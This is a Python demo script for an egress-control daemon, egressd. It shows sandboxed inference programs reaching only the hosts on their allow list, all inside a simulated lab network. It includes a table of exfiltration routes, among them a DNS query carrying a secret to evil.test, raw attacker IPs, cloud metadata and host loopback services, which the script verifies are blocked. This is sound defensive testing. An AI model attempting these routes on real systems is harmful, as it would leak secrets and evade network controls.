"""A guarded inference, told in a minute: what works, what does not, and the numbers that prove it.

Everything runs in network namespaces of its own, against a little internet that exists only there
(tests/lab/topology.py has the map); the machine's network is not touched. Every check mark is worked out from
what really happened, and the exit status is 0 only if all of them are.
"""

from __future__ import annotations

import os
import re
import shlex
import sys
import time
from dataclasses import dataclass, field
from pathlib import Path

PROJECT = Path(__file__).resolve().parent.parent
sys.path.insert(0, str(PROJECT / "tests"))

from lab import topology  # noqa: E402
from lab.capture import Capture  # noqa: E402
from lab.daemon import Daemon  # noqa: E402
from lab.internet import Internet, start_internet  # noqa: E402
from lab.machine import VENV, Lab, LabError, Result, closed_to_others  # noqa: E402

CLIENTS = PROJECT / "demo" / "clients"
MARKER = "sk-secret-4711"  # what the captured program tries to get out; see clients/get_out.py
PROBE = 9  # the discard port, to which the capture sends what it waits for
AT_ONCE = 50.0  # milliseconds within which a denial must be told

# What the captured program tries: (kind, target, port, what that is)
ROADS = (
    ("name", f"{MARKER}.evil.test", 443, "a question that carries the secret"),
    ("tcp", "evil.test", 443, "a host that is not listed"),
    ("tcp", topology.EVIL4, 443, "its raw address"),
    ("tcp", topology.EVIL6, 443, "the same over IPv6"),
    ("tcp", topology.OPENAI4, 443, "the raw address of an allowed host"),
    ("tcp", "eu.api.openai.test", 22, "an allowed host, another port"),
    ("dns", topology.OTHER_DNS4, 53, "another resolver"),
    ("tcp", topology.OTHER_DNS4, 53, "the same over TCP"),
    ("dns", topology.OTHER_DNS6, 53, "the same over IPv6"),
    ("udp", topology.EVIL4, 443, "QUIC, or anything else over UDP"),
    ("tcp", topology.METADATA4, 80, "cloud metadata"),
    ("tcp", topology.METADATA6, 80, "the same over IPv6"),
    ("tcp", "127.0.0.1", 9999, "a service on the host's loopback"),
    ("tcp", topology.HOST4, 9998, "a service on the host's uplink"),
    ("tcp", topology.HOST6, 9997, "the same over IPv6"),
)
AT_THE_RESOLVER = 2  # of these roads: the names end there
INSIDE = 1  # of these roads: 127.0.0.1 is the sandbox's own, and nobody listens there
# The rest is refused by the kernel, one packet each; "another port" is tried in both families.
REFUSED_PACKETS = len(ROADS) - AT_THE_RESOLVER - INSIDE + 1


@dataclass
class Story:
    """What the reader sees, and whether it went as told."""

    colour: bool
    held: int = 0
    failed: list[str] = field(default_factory=list)
    _step: int = 0

    def _paint(self, code: str, text: str) -> str:
        return f"\033[{code}m{text}\033[0m" if self.colour else text

    def step(self, title: str) -> None:
        self._step += 1
        print(f"\n{self._paint('1', f'{self._step}. {title}')}")

    def say(self, text: str) -> None:
        print("\n".join(f"   {line}" for line in text.strip("\n").splitlines()), flush=True)

    def show(self, text: str) -> None:
        """Something real: a file or a command's output."""
        print(
            "\n".join(f"   {self._paint('36', '|')} {line}" for line in text.rstrip().splitlines()),
            flush=True,
        )

    def command(self, text: str) -> None:
        self.say(self._paint("33", f"$ {text}"))

    def expect(self, *, held: bool, text: str) -> None:
        mark = self._paint("32", "✓") if held else self._paint("31", "✗")
        if held:
            self.held += 1
        else:
            self.failed.append(text)
        print(f"   {mark} {text}", flush=True)


@dataclass(frozen=True)
class Stage:
    """The lab with everything running in it."""

    story: Story
    lab: Lab
    internet: Internet
    host: Internet
    uplink: Capture
    daemon: Daemon

    def box(self, program: str, *words: str, workspace: str = "acme") -> Result:
        """Run one of the clients in a sandbox, showing the command and what it said."""
        options = [
            "--bind-ro", str(VENV), "--bind-ro", str(CLIENTS), "--bind-ro", self.lab.inside("trust"),
            "--env", f"SSL_CERT_FILE={self.lab.inside('trust/ca.pem')}",
        ]  # fmt: skip
        argv = [str(VENV / "bin" / "python"), "-B", str(CLIENTS / program), *words]
        shown = " ".join(shlex.quote(word) for word in words) if len(words) < 5 else "…"
        self.story.command(f"egressctl run -w {workspace} -- python {program} {shown}")
        result = self.daemon.sandbox(workspace, argv, *options, timeout=60)
        self.story.show(result.out + result.err)
        return result


def allowed(stage: Stage) -> None:
    story = stage.story
    story.step("What the policy lists works, with unmodified programs")
    story.say("The openai SDK, against an HTTPS endpoint on the list:")
    result = stage.box("ask_openai.py", "https://eu.api.openai.test/v1", "hello from the sandbox")
    story.expect(
        held=_said(result, "hello from the sandbox"), text="the model answered, TLS verified end to end"
    )
    story.say("\nThe ollama SDK, against 127.0.0.1:11434, which is the host's own Ollama (`local: ollama`):")
    result = stage.box("ask_ollama.py", "hello, local model")
    story.expect(held=_said(result, "hello, local model"), text="the local model answered")


def _said(result: Result, text: str) -> bool:
    return result.status == 0 and result.out.strip() == f"You said: {text}"


def denied(stage: Stage) -> None:
    story = stage.story
    story.step("The same program against a host that is not on the list")
    result = stage.box("ask_openai.py", "https://exfiltrate.evil.test/v1", MARKER)
    told = re.search(r"APIConnectionError after ([0-9.]+) ms", result.err)
    spent = float(told[1]) if told else float("inf")
    text = f"refused after {spent:.0f} ms, as an error the program can handle, not a time-out"
    story.expect(held=result.status != 0 and spent < 10 * AT_ONCE, text=text)


def captured(stage: Stage) -> None:
    story = stage.story
    story.step("A captured program tries every other road, with a secret in its hands")
    began = len(stage.uplink.frames())
    result = stage.box(
        "get_out.py", *(f"{kind},{target},{port},{what}" for kind, target, port, what in ROADS)
    )
    lines = result.out.splitlines()
    times = [float(found[1]) for line in lines if (found := re.search(r"([0-9.]+) ms ", line))]
    story.expect(
        held=result.status == 0 and len(lines) == len(ROADS), text=f"{len(ROADS)} roads tried, none led out"
    )
    slowest = max(times, default=float("inf"))
    story.expect(
        held=len(times) == len(ROADS) and slowest < AT_ONCE,
        text=f"each told at once: the slowest {slowest:.1f} ms",
    )
    frames = len(stage.uplink.frames(since=began))
    story.expect(held=frames == 0, text=f"frames on the uplink meanwhile: {frames}")


def proof(stage: Stage) -> None:
    story, daemon = stage.story, stage.daemon
    story.step("The kernel's counters say the same")
    story.command("egressctl counters acme")
    result = daemon.ctl("counters", "acme", uid=None)
    story.show(result.out + result.err)
    story.expect(
        held=result.status == 0, text="the books balance: in = admitted + denied + other, to the byte"
    )
    refused = daemon.counters("acme")["denied"]["unlisted"][0]
    story.say(
        f"Of the {len(ROADS)} roads {AT_THE_RESOLVER} ended at egressd's resolver, which knows no unlisted"
        f" name,\nand {INSIDE} at the sandbox's own loopback. Each of the others is a packet that the\n"
        "kernel refused; one of them tried both IPv4 and IPv6:"
    )
    story.expect(held=refused == REFUSED_PACKETS, text=f"{refused} packets refused, none uncounted")
    story.command("egressctl why -w acme evil.test")
    result = daemon.ctl("why", "-w", "acme", "evil.test")
    story.show(result.out + result.err)
    story.expect(held="evil.test: denied in" in result.out, text="and a denial has its reason")


def verdict(stage: Stage) -> None:
    story, uplink = stage.story, stage.uplink
    story.step("The judge: every frame that crossed the uplink, captured")
    listed = {topology.OPENAI4, topology.OPENAI6, topology.DNS4, topology.DNS6}
    sent = uplink.frames(outgoing=True)
    strays = [frame for frame in sent if frame.destination not in listed]
    foreign = [frame for frame in sent if frame.source not in (topology.HOST4, topology.HOST6)]
    for frame in (strays + foreign)[:5]:
        story.show(str(frame))
    story.expect(
        held=bool(sent) and not strays,
        text=f"{len(sent)} frames left, all to the allowed host and egressd's resolver",
    )
    story.expect(held=not foreign, text="none under a sandbox's or a synthetic address")
    story.expect(held=not uplink.holding(MARKER.encode()), text="the secret is in none of them")
    heard = {(entry.address, entry.name) for entry in stage.internet.seen() if entry.port != PROBE}
    evil = {(address, name) for address, name in heard if address not in map(str, listed) or "evil" in name}
    story.expect(held=not evil, text="no other server of the internet heard anything")
    secrets = [entry for entry in stage.host.seen() if entry.port in topology.SECRET_PORTS]
    story.expect(held=not secrets, text="no other service of the host heard anything")


def main() -> int:
    story = Story(colour=sys.stdout.isatty() and "NO_COLOR" not in os.environ)
    print(
        "egressd: a sandboxed inference reaches the hosts its workspace lists, and no other.\n"
        "What stands behind | is real output, and every check mark is worked out from what happened."
    )
    began = time.monotonic()
    with Lab() as lab:
        story.step("A machine, its uplink and a little internet, in namespaces of their own")
        internet, host = start_internet(lab)
        lab.path("trust").mkdir()
        lab.path("trust/ca.pem").write_bytes(internet.root)
        story.say(
            f"Up in {time.monotonic() - began:.1f} s. The real network is not touched; root is not needed."
        )
        story.step("egressd starts, with one workspace")
        with Capture(lab) as uplink, Daemon(lab) as daemon:
            story.command("egressd --config egressd.yaml &")
            story.command("cat workspaces/acme.yaml")
            story.show(lab.path(f"{daemon.directory}/workspaces/acme.yaml").read_text())
            stage = Stage(story, lab, internet, host, uplink, daemon)
            for part in (allowed, denied, captured, proof, verdict):
                part(stage)
    story.step("Everything is gone again")
    story.say(
        f"{story.held} of {story.held + len(story.failed)} checks held, in {time.monotonic() - began:.0f} s."
        " Try it by hand: make lab. Where to go next: README.md"
    )
    for text in story.failed:
        print(f"FAILED: {text}", file=sys.stderr)
    return 1 if story.failed else 0


if __name__ == "__main__":
    if (closed := closed_to_others(VENV)) is not None and os.geteuid() == 0:
        sys.exit(
            f"demo: other users may not enter {closed}, so sandboxes, which an unprivileged user runs,\n"
            f"could not start Python from {VENV}. Put the checkout elsewhere, or: chmod o+x {closed}"
        )
    try:
        sys.exit(main())
    except LabError as error:
        sys.exit(f"demo: {error}")
